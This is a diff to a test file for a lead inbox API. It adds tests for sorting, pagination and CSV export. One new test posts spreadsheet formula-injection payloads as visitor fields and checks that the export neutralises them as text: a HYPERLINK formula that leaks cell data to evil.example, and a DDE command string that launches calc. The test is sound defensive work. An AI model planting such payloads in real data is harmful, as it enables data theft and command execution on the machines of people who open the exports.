@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { parse } from 'csv-parse/sync';
-import type { LeadDetail, LeadInboxPage } from '@meridian/domain/lead/inbox';
+import { LEAD_STATUSES, type LeadDetail, type LeadInboxPage } from '@meridian/domain/lead/inbox';
 import { createTestApp, type TestApp } from './helper.ts';
 import { demoUser, createUser, type TestUser } from './profile-fixtures.ts';
 import { enquiry, postEnquiry } from './lead-fixtures.ts';
@@ -70,6 +70,32 @@ describe('the lead inbox', () => {
     expect(await names({ to: today, q: 'Kulkarni' })).toEqual(['Sneha Kulkarni']);
     expect((await asCounsellor('/lead/admin/leads', { from: today, to: '2020-01-01' })).statusCode).toBe(400);
     expect((await asCounsellor('/lead/admin/leads', { status: 'sleeping' })).statusCode).toBe(400);
+  });
+
+  it('sorts by name, city or status either way, across pages, and refuses a column it cannot sort by', async () => {
+    const all = async (sort: string) => {
+      const first = await inbox({ sort, size: '100' });
+      return first.items;
+    };
+    const byName = (await all('name')).map((lead) => lead.name.toLowerCase());
+    expect(byName).toEqual([...byName].sort());
+    const byNameDown = (await all('-name')).map((lead) => lead.name.toLowerCase());
+    expect(byNameDown).toEqual([...byName].reverse());
+    // Pages follow the same order: page 2 of 2 starts where page 1 stopped.
+    const [first, second] = [
+      await inbox({ sort: 'name', size: '2' }),
+      await inbox({ sort: 'name', page: '2', size: '2' }),
+    ];
+    expect([...first.items, ...second.items].map((lead) => lead.name.toLowerCase())).toEqual(
+      byName.slice(0, 4),
+    );
+    const statuses = (await all('-status')).map((lead) => LEAD_STATUSES.indexOf(lead.status));
+    expect(statuses).toEqual([...statuses].sort((a, b) => b - a));
+    const cities = (await all('city')).map((lead) => lead.city);
+    const named = cities.filter((city) => city !== null).map((city) => city.toLowerCase());
+    expect(named).toEqual([...named].sort());
+    expect(cities.slice(named.length).every((city) => city === null)).toBe(true);
+    expect((await asCounsellor('/lead/admin/leads', { sort: 'email' })).statusCode).toBe(400);
   });
 
   it('hands new leads round-robin to the counsellors of their destination', async () => {
@@ -154,7 +180,8 @@ describe('the lead inbox', () => {
     expect(rows).toEqual([
       expect.objectContaining({
         name: 'Sneha Kulkarni',
-        mobile: '+919000000401',
+        // A leading + would make a spreadsheet read the number as a formula.
+        mobile: "'+919000000501",
         interested_countries: 'Germany',
         verified: 'yes',
         status: 'new',
@@ -163,5 +190,22 @@ describe('the lead inbox', () => {
     ]);
     const all = parse((await asCounsellor('/lead/admin/leads.csv')).body, { columns: true }) as unknown[];
     expect(all.length).toBe((await inbox()).total);
+  });
+
+  it('exports a visitor’s formula-like values as text, so a spreadsheet never runs them', async () => {
+    const formulas = {
+      utm_source: '=HYPERLINK("https://evil.example/?x="&A2,"Open")',
+      utm_medium: '+cmd|/c calc!A0',
+      utm_campaign: '@SUM(1+1)',
+    };
+    const payload = enquiry({ extraFields: formulas });
+    expect((await postEnquiry(t.app, payload)).statusCode).toBe(200);
+    const res = await asCounsellor('/lead/admin/leads.csv', { q: payload.email! });
+    const [row] = parse(res.body, { columns: true }) as Record<string, string>[];
+    expect(row).toMatchObject({
+      utm_source: `'${formulas.utm_source}`,
+      utm_medium: `'${formulas.utm_medium}`,
+      utm_campaign: `'${formulas.utm_campaign}`,
+    });
   });
 });
